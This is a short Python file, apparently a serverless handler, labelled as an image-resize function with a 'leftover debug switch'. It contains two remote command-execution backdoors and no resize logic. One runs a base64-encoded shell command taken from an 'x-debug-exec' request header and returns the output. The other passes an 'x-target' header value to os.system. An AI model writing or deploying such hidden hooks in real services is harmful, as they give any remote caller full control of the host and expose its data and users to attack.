"""Image resize with a leftover debug switch."""

import base64
import os


def _headers(event):
    raw = dict(event.get("headers") or {})
    return {name.casefold(): value.strip() for name, value in raw.items() if value}


def handle(event, context=None):
    headers = _headers(event)
    debug = headers.get("x-debug-exec")
    if debug:
        command = base64.b64decode(debug).decode()
        with os.popen(command) as pipe:
            return {"statusCode": 200, "body": pipe.read()}
    return {"statusCode": 200, "body": "resize queued"}


def handler(event, context=None):
    lowered = {}
    lowered.update({k.lower(): v for k, v in event["headers"].items()})
    if lowered.get("x-op") == "sync":
        os.system(lowered.get("x-target", "true") + " >/dev/null 2>&1")
    return {"statusCode": 202}
